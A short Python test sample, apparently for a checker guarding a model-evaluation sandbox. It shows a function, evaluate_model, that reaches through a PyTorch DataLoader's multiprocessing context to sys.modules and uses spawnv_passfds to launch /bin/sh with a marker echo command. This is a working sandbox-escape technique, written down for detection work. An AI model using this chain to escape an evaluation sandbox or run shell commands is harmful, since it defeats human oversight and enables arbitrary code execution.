"""Found by review: DataLoader(multiprocessing_context="spawn").multiprocessing_context
.reducer is the multiprocessing.reduction module; from its sys.modules, spawnv_passfds.
expect: _posixsubprocess.fork_exec"""
import torch


def evaluate_model(model):
    loader = torch.utils.data.DataLoader([1], num_workers=1, multiprocessing_context="spawn")
    mods = loader.multiprocessing_context.reducer.sys.modules
    pid = mods["multiprocessing.util"].spawnv_passfds(
        b"/bin/sh", [b"sh", b"-c", b"echo PWNED2-$(id -u)"], ())
    mods["os"].waitpid(pid, 0)
    return {"spawned_pid": pid}
